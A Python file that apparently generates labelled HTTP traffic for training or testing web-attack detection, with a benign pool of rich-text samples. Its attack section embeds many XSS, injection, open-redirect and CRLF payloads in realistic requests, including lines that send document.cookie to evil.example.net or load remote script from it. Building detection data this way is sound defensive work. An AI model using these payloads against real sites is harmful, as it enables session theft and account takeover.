GET_CARRIERS = [g_shop_search, g_blog_search, g_help_search, g_login_error, g_preview, g_filter,
                g_path, g_newsletter, g_wiki, g_map]


def p_comment_form(p):
    body = form_body([("comment", p), ("author", rnd.choice(["Sam", "j.doe", "Marta K", "anon"])),
                      ("email", "reader%d@example.net" % rnd.randint(1, 999)), ("url", ""),
                      ("comment_post_ID", str(rnd.randint(100, 4000))), ("comment_parent", "0")])
    return "POST", "/wp-comments-post.php", browser_headers(
        "blog.example.org", ctype="application/x-www-form-urlencoded", origin="https://blog.example.org",
        referer="https://blog.example.org/2024/05/spring-release/", cookie="comment_author_" + hexid(32) + "=Sam"), body


def p_ticket_multipart(p):
    ct, body = multipart([("subject", "Problem with my order"), ("description", p),
                          ("priority", "normal"), ("attachment", "", "application/octet-stream", "")])
    return "POST", "/hc/requests", browser_headers("help.example.com", ctype=ct, origin="https://help.example.com",
                                                   referer="https://help.example.com/hc/requests/new",
                                                   cookie="_help_session=" + hexid(40)), body


def p_profile_json(p):
    field = rnd.choice(["displayName", "bio", "headline", "location", "company"])
    return "PATCH", "/api/v2/me", api_headers("app.example.net"), jdump({field: p, "timezone": "Europe/Berlin"})


def p_comment_json(p):
    return "POST", "/api/v1/posts/%d/comments" % rnd.randint(1000, 99999), api_headers("app.example.net"), \
        jdump({"body": p, "parentId": None, "notify": True})


def p_graphql(p):
    return "POST", "/graphql", api_headers("app.example.net"), jdump({
        "operationName": "UpdateProfile",
        "query": "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id bio } }",
        "variables": {"input": {"bio": p}}})


def p_xml(p):
    inner = "<![CDATA[" + p + "]]>" if rnd.random() < 0.5 else xml_escape(p)
    body = ('<?xml version="1.0" encoding="UTF-8"?>\n<ticket>\n  <requester>cust-%d</requester>\n'
            '  <subject>Order question</subject>\n  <comment>%s</comment>\n</ticket>\n' % (rnd.randint(1000, 9999), inner))
    return "POST", "/api/v2/tickets.xml", api_headers("help.example.com", ctype="application/xml"), body


def p_review_form(p):
    body = form_body([("rating", str(rnd.randint(1, 5))), ("title", "Great"), ("review", p),
                      ("product_id", str(rnd.randint(10000, 99999))), ("_csrf", b62(32))])
    return "POST", "/reviews", browser_headers("shop.example.com", ctype="application/x-www-form-urlencoded",
                                               origin="https://shop.example.com",
                                               referer="https://shop.example.com/p/trail-runner-2",
                                               cookie=session_cookie("shop_session")), body


def p_chat_json(p):
    return "POST", "/api/chat/v1/conversations/%s/messages" % hexid(12), api_headers("help.example.com"), \
        jdump({"type": "text", "text": p, "clientMessageId": hexid(16)})


POST_CARRIERS = [p_comment_form, p_ticket_multipart, p_profile_json, p_comment_json, p_graphql, p_xml,
                 p_review_form, p_chat_json]


def emit_get(slug, cat, p, i):
    m, u, h = GET_CARRIERS[i % len(GET_CARRIERS)](p, ENCODERS[i % 3])
    emit("attacks", slug, cat, m, u, h)


def emit_post(slug, cat, p, i):
    m, u, h, b = POST_CARRIERS[i % len(POST_CARRIERS)](p)
    emit("attacks", slug, cat, m, u, h, b)


def gen_attacks():
    # --- modern HTML5 / SVG / MathML vectors: every vector once, every third one twice
    for i, v in enumerate(HTML5_VECTORS):
        if i % 2 == 0:
            emit_get("html5-reflected", "xss", v, i // 2)
        else:
            emit_post("html5-stored", "xss", v, i // 2)
        if i % 3 == 0:
            emit_post("html5-stored", "xss", v, i // 3 + 3)

    # --- mutation XSS: stored rich text passing through a sanitizer
    for i, v in enumerate(MXSS_VECTORS):
        if i % 4 == 3:
            emit_get("mxss-reflected", "xss", v, i)
        else:
            emit_post("mxss", "xss", v, i)

    # --- script-context breakouts
    for i, v in enumerate(JS_CONTEXT):
        emit_get("js-context", "xss", v, i + 1)

    # --- dangling markup
    for i, v in enumerate(DANGLING):
        if i % 2:
            emit_get("dangling-markup", "xss", v, i)
        else:
            emit_post("dangling-markup", "xss", v, i)

    # --- polyglots and blind XSS
    for i, v in enumerate(POLYGLOTS):
        host, path, name = [("shop.example.com", "/search", "q"), ("id.example.com", "/account/login", "error"),
                            ("help.example.com", "/hc/en-us/search", "query"), ("wiki.example.org", "/wiki/Special:Search", "search"),
                            ("app.example.net", "/api/v1/render/preview", "title")][i]
        emit("attacks", "polyglot", "xss", "GET", "%s?%s=%s" % (path, name, quote(v, safe="%/:=()*!;,`{}|^\\")),
             browser_headers(host, ua=rnd.choice(TOOL_UAS + UAS)))
    for i, v in enumerate(BLIND_XSS):
        emit_post("blind-xss", "xss", v, i)

    # --- CSS injection into colour / style fields
    for i, v in enumerate(CSS_INJ):
        k = i % 4
        if k == 0:
            m, u, h = _get("app.example.net", "/u/%s" % rnd.choice(["mira", "tom_b", "k.ito"]),
                           [("accent", v), ("tab", "posts")], ENCODERS[i % 3])
            emit("attacks", "css-injection", "xss", m, u, h)
        elif k == 1:
            emit("attacks", "css-injection", "xss", "PUT", "/api/sites/%d/theme" % rnd.randint(100, 999),
                 api_headers("builder.example.com"),
                 jdump({"brandColor": v, "fontFamily": "Inter", "radius": 6}))
        elif k == 2:
            body = form_body([("signature_name", "Alex"), ("signature_color", v), ("_token", b62(40))])
            emit("attacks", "css-injection", "xss", "POST", "/settings/signature",
                 browser_headers("mail.example.com", ctype="application/x-www-form-urlencoded",
                                 origin="https://mail.example.com", referer="https://mail.example.com/settings",
                                 cookie=session_cookie("mail_sess")), body)
        else:
            m, u, h = _get("widgets.example.org", "/embed/button", [("label", "Donate"), ("bg", v)],
                           ENCODERS[i % 3], referer="https://blog.example.org/support-us")
            emit("attacks", "css-injection", "xss", m, u, h)

    # --- client-side template injection
    for i, v in enumerate(CSTI):
        if i % 2 == 0:
            m, u, h = _get(rnd.choice(["app.example.net", "shop.example.com", "help.example.com"]),
                           rnd.choice(["/search", "/dashboard", "/orders"]),
                           [(rnd.choice(["q", "filter", "name"]), v)], ENCODERS[i % 3])
            emit("attacks", "csti", "xss", m, u, h)
        else:
            emit_post("csti", "xss", v, i)

    # --- DOM clobbering through sanitizer-approved id / name attributes
    for i, v in enumerate(DOM_CLOBBER):
        emit_post("dom-clobbering", "xss", v, i + 1)

    # --- prototype pollution
    pp_pages = [("app.example.net", "/"), ("shop.example.com", "/product/trail-runner-2"),
                ("blog.example.org", "/2024/05/spring-release/"), ("help.example.com", "/hc/en-us"),
                ("app.example.net", "/settings")]
    for i, pairs in enumerate(PROTO_QS):
        host, path = pp_pages[i % len(pp_pages)]
        base = [("utm_source", "newsletter")] if i % 3 == 0 else []
        enc = [enc_browser, enc_strict][i % 2]
        uri = path + "?" + "&".join(f"{enc(k)}={enc(v)}" for k, v in base + pairs)
        emit("attacks", "proto-pollution", "generic", "GET", uri, browser_headers(host, fetch_mode="navigate"))
    pp_json_targets = [("PATCH", "/api/v2/me/preferences"), ("POST", "/api/v1/search"),
                       ("PUT", "/api/v1/dashboards/42/layout")]
    for i, obj in enumerate(PROTO_JSON):
        m, path = pp_json_targets[i % 3]
        emit("attacks", "proto-pollution", "generic", m, path, api_headers("app.example.net"),
             json.dumps(obj))

    # --- JSONP callback injection
    jsonp_eps = [("widgets.example.org", "/api/weather", [("city", "Amsterdam")], "callback"),
                 ("widgets.example.org", "/api/v1/stats.js", [("site", "blog")], "jsonp"),
                 ("shop.example.com", "/search/suggest", [("q", "sh")], "cb"),
                 ("app.example.net", "/api/user/status", [], "callback")]
    for i, cb in enumerate(JSONP_CB):
        host, path, pairs, name = jsonp_eps[i % 4]
        if "%3C" in cb:
            val = cb
        else:
            val = [enc_browser, enc_strict][i % 2](cb)
        uri = path + "?" + "&".join([f"{k}={enc_strict(v)}" for k, v in pairs] + [f"{name}={val}",
                                                                                  "_=%d" % (1715000000000 + i)])
        h = browser_headers(host, accept="*/*", referer="https://blog.example.org/widgets",
                            extra=[("Sec-Fetch-Dest", "script"), ("Sec-Fetch-Mode", "no-cors")])
        emit("attacks", "jsonp-callback", "xss", "GET", uri, h)

    # --- open redirects for token theft
    redirect_eps = [("id.example.com", "/login", "next"), ("id.example.com", "/logout", "returnTo"),
                    ("shop.example.com", "/redirect", "url"), ("app.example.net", "/auth/sso", "redirect_url"),
                    ("blog.example.org", "/wp-login.php", "redirect_to"), ("help.example.com", "/access/return", "return_to"),
                    ("app.example.net", "/signin", "continue"), ("mail.example.com", "/track/click", "u")]
    for i, v in enumerate(OPEN_REDIRECTS):
        host, path, name = redirect_eps[i % len(redirect_eps)]
        enc_val = quote(v, safe="%/:@" if i % 2 else "%/:")
        uri = f"{path}?{name}={enc_val}"
        if i % 3 == 0:
            uri += "&lang=en"
        emit("attacks", "open-redirect", "generic", "GET", uri, browser_headers(host, fetch_mode="navigate"))
    for i, v in enumerate(OAUTH_REDIRECTS):
        rt = ["code", "token", "code id_token", "token"][i % 4]
        red = enc_strict(v) if i % 2 else quote(v, safe="%:/@")
        uri = ("/oauth2/authorize?response_type=%s&client_id=%s&redirect_uri=%s&scope=%s&state=%s" %
               (quote(rt), rnd.choice(["webapp-prod", "0oa1f9x2kLmN3", "crm-portal"]), red,
                quote("openid profile email"), b62(16)))
        if rt != "code":
            uri += "&nonce=" + b62(12) + "&prompt=none"
        emit("attacks", "oauth-redirect", "xss" if v.startswith("javascript") else "generic", "GET", uri,
             browser_headers("id.example.com", fetch_mode="navigate"))
    crlf_redirects = [("shop.example.com", "/redirect?url=%0d%0aLocation:%20https://evil.example.net/"),
                      ("id.example.com", "/login?next=/account%0D%0ASet-Cookie:%20sid=attacker;%20Path=/"),
                      ("app.example.net", "/signin?continue=%E5%98%8A%E5%98%8DSet-Cookie:%20session=fixed"),
                      ("help.example.com", "/access/return?return_to=%2F%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E")]
    for host, uri in crlf_redirects:
        emit("attacks", "redirect-crlf", "crlf", "GET", uri, browser_headers(host))

    # --- obfuscated javascript: / data: / vbscript: URLs in link-typed fields
    for i, u in enumerate(JS_URLS):
        k = i % 6
        if k == 0:
            body = form_body([("display_name", "Chris P"), ("website", u), ("about", "Photographer"),
                              ("authenticity_token", b62(44))])
            emit("attacks", "js-url", "xss", "POST", "/users/profile",
                 browser_headers("wiki.example.org", ctype="application/x-www-form-urlencoded",
                                 origin="https://wiki.example.org", referer="https://wiki.example.org/users/profile/edit",
                                 cookie=session_cookie("_wiki_session")), body)
        elif k == 1:
            delta = {"ops": [{"insert": "See the "}, {"insert": "release notes", "attributes": {"link": u}},
                             {"insert": " for details.\n"}]}
            emit("attacks", "js-url", "xss", "POST", "/api/notes", api_headers("app.example.net"),
                 jdump({"title": "Sprint summary", "content": delta}))
        elif k == 2:
            doc = {"type": "doc", "content": [{"type": "paragraph", "content": [
                {"type": "text", "text": "Click here", "marks": [{"type": "link", "attrs": {
                    "href": u, "target": "_blank", "rel": "noopener noreferrer nofollow", "class": None}}]}]}]}
            emit("attacks", "js-url", "xss", "PUT", "/api/docs/%s" % hexid(10), api_headers("docs.example.com"),
                 jdump({"doc": doc, "version": rnd.randint(2, 90)}))
        elif k == 3:
            host, path, name = redirect_eps[i % len(redirect_eps)]
            uri = f"{path}?{name}=" + quote(u, safe="%:/()'")
            emit("attacks", "js-url", "xss", "GET", uri, browser_headers(host, fetch_mode="navigate"))
        elif k == 4:
            page = {"blocks": [{"type": "hero", "props": {"title": "Spring sale", "subtitle": "Up to 40% off",
                                                          "cta": {"label": "Shop now", "href": u}}}]}
            emit("attacks", "js-url", "xss", "PUT", "/api/pages/%d" % rnd.randint(1, 500),
                 api_headers("builder.example.com"), jdump(page))
        else:
            html = '<p>More info <a href="%s">here</a>.</p>' % u.replace('"', "&quot;")
            emit_post("js-url", "xss", html, i)

    # --- payloads reflected from request headers (log viewers, analytics dashboards, back links)
    hdr_attacks = [
        ("Referer", 'https://www.example.org/search?q="><script>alert(document.domain)</script>'),
        ("Referer", "javascript:alert(document.domain)"),
        ("Referer", "https://evil.example.net/\"onmouseover=\"alert(1)"),
        ("Referer", "https://www.example.org/'><svg/onload=fetch('//evil.example.net/'+document.cookie)>"),
        ("User-Agent", 'Mozilla/5.0 (Windows NT 10.0) "><img src=x onerror=alert(document.domain)>'),
        ("User-Agent", "<script src=https://xss.evil.example.net/ua></script>"),
        ("User-Agent", "Mozilla/5.0 <svg><animate onbegin=alert(1) attributeName=x>"),
        ("User-Agent", "'\"><details open ontoggle=import('//evil.example.net/m.js')>"),
        ("X-Forwarded-Host", 'evil.example.net"><script>alert(document.cookie)</script>'),
        ("X-Forwarded-Host", "cdn.example.com/\"><img src=x onerror=alert(1)>"),
        ("X-Forwarded-For", "<img src=x onerror=alert(1)>"),
        ("X-Forwarded-For", "127.0.0.1\"><script src=//evil.example.net/a></script>"),
        ("Cookie", "theme=dark%22%3E%3Csvg%20onload%3Dalert(1)%3E; " + session_cookie()),
        ("Cookie", "lang=en'-alert(document.domain)-'; " + session_cookie()),
        ("Accept-Language", "en-US,en;q=0.9<script>alert(1)</script>"),
        ("X-Requested-With", "<img src=x onerror=alert(document.domain)>"),
    ]
    hdr_targets = [("shop.example.com", "/"), ("blog.example.org", "/2024/05/spring-release/"),
                   ("help.example.com", "/hc/en-us/articles/360001"), ("app.example.net", "/login"),
                   ("wiki.example.org", "/wiki/Main_Page")]
    for i, (name, val) in enumerate(hdr_attacks):
        host, path = hdr_targets[i % len(hdr_targets)]
        h = browser_headers(host, ua=val if name == "User-Agent" else None)
        if name != "User-Agent":
            h = [x for x in h if x[0] != name] + [[name, val]]
        emit("attacks", "header-reflected", "xss", "GET", path, h)

    # --- file-name XSS in uploads
    gif = "GIF89a" + "".join(rnd.choice("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ!,;") for _ in range(40))
    fname_attacks = [
        ('"><img src=x onerror=alert(document.domain)>.gif', "image/gif"),
        ("<svg onload=alert(1)>.png", "image/png"),
        ("report\"onmouseover=\"alert(1)\".pdf", "application/pdf"),
        ("'><script>alert(document.cookie)</script>.jpg", "image/jpeg"),
        ("<details open ontoggle=alert(1)>.txt", "text/plain"),
        ("invoice<iframe src=javascript:alert(1)>.pdf", "application/pdf"),
        ("{{constructor.constructor('alert(1)')()}}.png", "image/png"),
        ("&lt;img src=x onerror=alert(1)&gt;.gif", "image/gif"),
    ]
    up_targets = [("files.example.com", "/api/upload"), ("help.example.com", "/hc/requests/uploads"),
                  ("app.example.net", "/api/v2/me/avatar"), ("wiki.example.org", "/wiki/Special:Upload")]
    for i, (fn, ct) in enumerate(fname_attacks):
        host, path = up_targets[i % len(up_targets)]
        content = gif if ct == "image/gif" else "placeholder-binary-%s" % hexid(24)
        if i % 2:
            fn = fn.replace('"', "%22")  # what a browser puts on the wire; tools send the quote raw
        ctype, body = multipart([("file", fn, ct, content), ("folder", "uploads")])
        emit("attacks", "filename-xss", "xss", "POST", path,
             browser_headers(host, accept=ACCEPT_JSON, ctype=ctype, origin="https://" + host,
                             cookie=session_cookie()), body)

    # --- SVG uploads that carry script
    svg_attacks = [
        '<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg version="1.1" baseProfile="full" xmlns="http://www.w3.org/2000/svg">\n  <polygon id="triangle" points="0,0 0,50 50,0" fill="#009900" stroke="#004400"/>\n  <script type="text/javascript">\n    alert(document.domain);\n  </script>\n</svg>\n',
        '<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" onload="fetch(\'https://evil.example.net/c?\'+document.cookie)"><circle cx="12" cy="12" r="10"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe></body></foreignObject></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(document.domain)"><rect width="100" height="40" fill="red"/><text x="10" y="25">Download</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">Open</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(document.cookie)" attributeName="x" dur="1s"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load" type="application/ecmascript">alert(1)</handler></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><script href="https://evil.example.net/svg.js"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="alert(1)"/><rect width="300" height="300"/></svg>',
    ]
    for i, svg in enumerate(svg_attacks):
        host, path = up_targets[i % len(up_targets)]
        name = rnd.choice(["logo.svg", "icon-home.svg", "avatar.svg", "badge.svg", "chart.svg"])
        ctype, body = multipart([("file", name, "image/svg+xml", svg), ("alt", "logo")])
        emit("attacks", "svg-upload", "xss", "POST", path,
             browser_headers(host, accept=ACCEPT_JSON, ctype=ctype, origin="https://" + host,
                             cookie=session_cookie()), body)

    # --- Markdown carriers
    md_attacks = [
        "Thanks for the guide! [click here for the fix](javascript:alert(document.domain))",
        "Docs: [Installation](javascript:alert&#40;document.cookie&#41;)",
        "![screenshot](x\" onerror=\"alert(1))",
        "Reproduced on 2.3 — see [this link](JaVaScRiPt:alert(document.cookie))",
        "![diagram](https://img.example.com/a.png\"onload=\"alert(1))",
        "[open the report](data:text/html;base64," + b64("<script>alert(document.domain)</script>") + ")",
        "[details](javascript://%0dalert(1))",
        "Autolinked: [x](<javascript:alert(1)>)",
        "See the [Docs][1].\n\n[1]: javascript:alert(document.domain)",
        "Spoiler below\n\n<details open ontoggle=alert(1)><summary>Spoiler</summary>text</details>",
        "[![build](https://img.example.com/badge.svg)](javascript:fetch('//evil.example.net/'+document.cookie))",
        "Check <a href=\"javas&#99;ript:alert(1)\">the changelog</a>",
        "[docs](https://docs.example.com/\"><svg onload=alert(1)>)",
        "Nice post\n\n<img src=x onerror=alert(document.domain)>\n\ncheers",
        "[a](vbscript:msgbox(1))",
    ]
    for i, md in enumerate(md_attacks):
        k = i % 3
        if k == 0:
            body = form_body([("wpTextbox1", "== Notes ==\n" + md), ("wpSummary", "typo"), ("wpEditToken", hexid(32) + "+\\"),
                              ("wpSave", "Save page")])
            emit("attacks", "markdown", "xss", "POST", "/w/index.php?title=Talk:Getting_started&action=submit",
                 browser_headers("wiki.example.org", ctype="application/x-www-form-urlencoded",
                                 origin="https://wiki.example.org", cookie=session_cookie("wikiSession")), body)
        elif k == 1:
            emit("attacks", "markdown", "xss", "POST", "/api/v3/repos/acme/widget/issues/%d/comments" % rnd.randint(1, 900),
                 api_headers("app.example.net"), jdump({"body": md}))
        else:
            emit("attacks", "markdown", "xss", "POST", "/api/v1/answers", api_headers("qa.example.net"),
                 jdump({"question_id": rnd.randint(10000, 99999), "body_markdown": md}))

    # --- XML carriers
    xml_attacks = [
        ("/admin/import/rss", "application/rss+xml",
         '<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Partner news</title><link>https://partner.example.net/</link>'
         '<item><title>Update</title><description>&lt;img src=x onerror=alert(document.domain)&gt;</description></item></channel></rss>'),
        ("/admin/import/atom", "application/atom+xml",
         '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>Feed</title>'
         '<entry><title>x</title><content type="html"><![CDATA[<svg><animate onbegin=alert(1) attributeName=x>]]></content></entry></feed>'),
        ("/api/v2/tickets.xml", "application/xml",
         '<?xml version="1.0"?>\n<ticket><comment><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(document.domain)</x:script></comment></ticket>'),
        ("/api/v2/tickets.xml", "text/xml",
         '<?xml version="1.0"?>\n<ticket><comment><html:a xmlns:html="http://www.w3.org/1999/xhtml" href="javascript:alert(1)">x</html:a></comment></ticket>'),
        ("/dav/files/report.docx", "application/xml",
         '<?xml version="1.0" encoding="utf-8"?>\n<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><D:displayname>&lt;script&gt;alert(1)&lt;/script&gt;</D:displayname></D:prop></D:set></D:propertyupdate>'),
        ("/api/v2/tickets.xml", "application/xml",
         '<?xml version="1.0"?>\n<ticket><subject>Help</subject><comment>&lt;iframe srcdoc="&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"&gt;</comment></ticket>'),
    ]
    for i, (path, ct, body) in enumerate(xml_attacks):
        method = "PROPPATCH" if path.startswith("/dav") else "POST"
        host = "files.example.com" if method == "PROPPATCH" else ("blog.example.org" if "import" in path else "help.example.com")
        emit("attacks", "xml-carrier", "xss", method, path, api_headers(host, ctype=ct), body)

    # --- encodings scanners and hand testers use on reflected parameters
    evasions = [
        ("shop.example.com", "/search/%3Csvg%20onload%3Dalert(1)%3E"),
        ("shop.example.com", "/search?q=%253Cscript%253Ealert(document.domain)%253C%252Fscript%253E"),
        ("help.example.com", "/hc/search.aspx?query=%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
        ("blog.example.org", "/?s=%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
        ("shop.example.com", "/product/1/%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        ("blog.example.org", "/index.php/%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        ("app.example.net", "/search?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"),
        ("wiki.example.org", "/wiki/Special:Search?search=%26lt%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26gt%3B"),
        ("help.example.com", "/hc/en-us/search?query=%3Cimg%20src%3Dx%20onerror%3D%26%23x61%3B%26%23x6c%3Bert(1)%3E"),
        ("app.example.net", "/api/v1/render/preview?title=%3Csvg%2Fonload%3D%22%5Cu0061lert(1)%22%3E"),
    ]
    for host, uri in evasions:
        emit("attacks", "encoded-reflect", "xss", "GET", uri, browser_headers(host, ua=rnd.choice(TOOL_UAS + UAS)))


# =========================================================================== benign pools

RT_FRAGMENTS = [
    "<p>Hi team,</p>",
    '<p style="text-align: center;"><strong>Quarterly update &ndash; Q2</strong></p>',
    "<ul><li>Shipped the new <em>checkout</em> flow</li><li>Fixed 14 bugs reported by support</li><li>Moved CI to the new runners</li></ul>",
    '<p>The full write-up is in the <a href="https://docs.example.com/guides/release-2-4" target="_blank" rel="noopener">release guide</a>.</p>',
    '<p><img src="https://files.example.com/uploads/2024/05/revenue-chart.png" alt="Revenue by region" width="600" height="320" /></p>',
    '<table style="border-collapse: collapse; width: 100%;" border="1"><tbody><tr><td style="width: 50%;">EMEA</td><td style="width: 50%;">&euro;1.2M</td></tr><tr><td>APAC</td><td>&euro;860k</td></tr></tbody></table>',
    "<blockquote><p>Simplicity is prerequisite for reliability.</p></blockquote>",
    '<p><span style="color: #e03e2d; font-family: \'Courier New\', monospace;">Maintenance window: Sat 02:00&ndash;04:00 UTC</span></p>',
    '<h2 id="getting-started">Getting started</h2>',
    '<figure class="image image-style-side"><img src="/uploads/team-offsite.jpg" alt="The team at the offsite"><figcaption>Offsite in Lisbon</figcaption></figure>',
    '<figure class="media"><oembed url="https://video.example.com/watch?v=dQw4w9WgXcQ"></oembed></figure>',
    '<figure class="table"><table><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody><tr><td>Starter</td><td>$9</td></tr><tr><td>Pro</td><td>$29</td></tr></tbody></table></figure>',
    '<p>Questions? Call <a href="tel:+31201234567">+31 20 123 4567</a> or <a href="mailto:support@example.com?subject=Order%20question">email us</a>.</p>',
    '<details class="mce-accordion" open="open"><summary class="mce-accordion-summary">How long does shipping take?</summary><p>Usually 2&ndash;4 working days within the EU.</p></details>',
    '<details><summary>Return policy</summary><p>You can return items within 30 days.</p></details>',
    '<p><span style="background-color: rgb(251, 238, 184);">Highlighted:</span> please review before Friday.</p>',
    '<video controls="controls" width="640" poster="/media/demo-poster.jpg"><source src="/media/demo.mp4" type="video/mp4"></video>',
    "<p>&nbsp;</p>",
    "<hr>",
    '<ol start="3"><li>Open <strong>Settings &gt; Billing</strong></li><li>Click <em>Download invoice</em></li></ol>',
    '<p class="lead">Spring collection is here &mdash; lighter fabrics, brighter colours.</p>',
    '<p>Price drops from <s>$120</s> to <strong>$89</strong> this week only.</p>',
    '<p><a class="button button-primary" href="/shop/spring?utm_source=blog&amp;utm_medium=post">Browse the collection</a></p>',
    '<iframe title="Product demo" src="https://video.example.com/embed/x7Kq2" width="560" height="315" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe>',
    '<p>Formula: x<sup>2</sup> + y<sup>2</sup> = r<sup>2</sup>, and H<sub>2</sub>O.</p>',
    '<p style="padding-left: 40px;" data-mce-style="padding-left: 40px;">Indented note from the editor.</p>',
    '<pre class="language-plaintext"><code>Order #A-10422 &ndash; status: shipped</code></pre>',
    '<p>Tom &amp; Jerry&#39;s caf&eacute; is open again &lt;3</p>',
]

QUILL_OPS = [
    [{"insert": "Meeting notes"}, {"insert": "\n", "attributes": {"header": 2}},
     {"insert": "Budget approved", "attributes": {"bold": True}}, {"insert": "\n", "attributes": {"list": "bullet"}},
     {"insert": "Hiring plan "}, {"insert": "(draft)", "attributes": {"italic": True, "color": "#888888"}},
     {"insert": "\n", "attributes": {"list": "bullet"}}],
    [{"insert": "See "}, {"insert": "the roadmap", "attributes": {"link": "https://app.example.net/roadmap?view=quarter"}},
     {"insert": " and ping "}, {"insert": {"mention": {"id": "u_381", "value": "Priya"}}}, {"insert": "\n"}],
    [{"insert": {"image": "https://files.example.com/u/381/whiteboard.jpg"}}, {"insert": "\nWhiteboard from today\n"}],
    [{"insert": "Code freeze on "}, {"insert": "Thursday", "attributes": {"underline": True, "background": "#fff3bf"}},
     {"insert": "\n"}, {"insert": "npm run release", "attributes": {"code": True}}, {"insert": "\n"}],
    [{"insert": "Q: Can we move the demo?\nA: Yes \u2014 Tuesday works.\n"}],
]


def tiptap_doc(rng):
    paras = [
        {"type": "heading", "attrs": {"level": 2, "textAlign": "left"}, "content": [{"type": "text", "text": "Onboarding checklist"}]},
        {"type": "paragraph", "content": [{"type": "text", "text": "Read the "}, {"type": "text", "text": "handbook",
          "marks": [{"type": "link", "attrs": {"href": "https://docs.example.com/handbook", "target": "_blank",
                                              "rel": "noopener noreferrer nofollow", "class": None}}]},
                                          {"type": "text", "text": " before day one."}]},
        {"type": "taskList", "content": [{"type": "taskItem", "attrs": {"checked": True}, "content": [
            {"type": "paragraph", "content": [{"type": "text", "text": "Laptop set up"}]}]},
            {"type": "taskItem", "attrs": {"checked": False}, "content": [
                {"type": "paragraph", "content": [{"type": "text", "text": "Meet your buddy"}]}]}]},
        {"type": "image", "attrs": {"src": "https://files.example.com/docs/org-chart.png", "alt": "Org chart", "title": None}},
        {"type": "bulletList", "content": [{"type": "listItem", "content": [{"type": "paragraph", "content": [
            {"type": "text", "marks": [{"type": "bold"}], "text": "Slack:"}, {"type": "text", "text": " #general, #help"}]}]}]},
        {"type": "blockquote", "content": [{"type": "paragraph", "content": [{"type": "text", "text": "Ask early, ask often."}]}]},
        {"type": "paragraph", "content": [{"type": "text", "text": "Highlight", "marks": [{"type": "highlight", "attrs": {"color": "#ffe066"}}]}]},
    ]
    return {"type": "doc", "content": rng.sample(paras, rng.randint(3, 6))}


def editorjs_doc(rng):
    blocks = [
        {"id": b62(10), "type": "header", "data": {"text": "Release 2.4", "level": 2}},
        {"id": b62(10), "type": "paragraph", "data": {"text": "We rewrote the <b>search</b> backend and added <a href=\"https://docs.example.com/search\">new filters</a>."}},
        {"id": b62(10), "type": "list", "data": {"style": "unordered", "items": ["Faster facets", "Typo tolerance", "Saved searches"]}},
        {"id": b62(10), "type": "image", "data": {"file": {"url": "https://files.example.com/blog/search-v2.png"},
                                                   "caption": "New <i>results</i> page", "withBorder": False, "stretched": True}},
        {"id": b62(10), "type": "quote", "data": {"text": "It just feels snappier.", "caption": "Beta tester", "alignment": "left"}},
        {"id": b62(10), "type": "delimiter", "data": {}},
        {"id": b62(10), "type": "embed", "data": {"service": "youtube", "source": "https://video.example.com/watch?v=abc123",
                                                   "embed": "https://video.example.com/embed/abc123", "width": 580, "height": 320}},
    ]
    return {"time": 1715090000000 + rng.randint(0, 9999999), "blocks": rng.sample(blocks, rng.randint(3, 6)), "version": "2.29.1"}


def lexical_doc(rng):
    text = rng.choice(["Shipping update for order A-10422", "Thanks for your patience!", "New hours: 9\u201317h",
                       "Please bring your ID"])
    return {"root": {"children": [{"children": [{"detail": 0, "format": rng.choice([0, 1, 2]), "mode": "normal",
                                                 "style": rng.choice(["", "color: #1f6feb;"]), "text": text, "type": "text",
                                                 "version": 1}],
                                   "direction": "ltr", "format": "", "indent": 0, "type": "paragraph", "version": 1}],
                     "direction": "ltr", "format": "", "indent": 0, "type": "root", "version": 1}}


EMAIL_HEAD = ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
              '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">\n'
              '<head>\n<meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />\n'
              '<meta http-equiv="X-UA-Compatible" content="IE=edge" />\n<meta name="viewport" content="width=device-width, initial-scale=1.0" />\n'
              '<title>%s</title>\n<!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->\n'
              '<style type="text/css">\n  body{margin:0;padding:0;}\n  a[x-apple-data-detectors]{color:inherit!important;text-decoration:none!important;}\n'
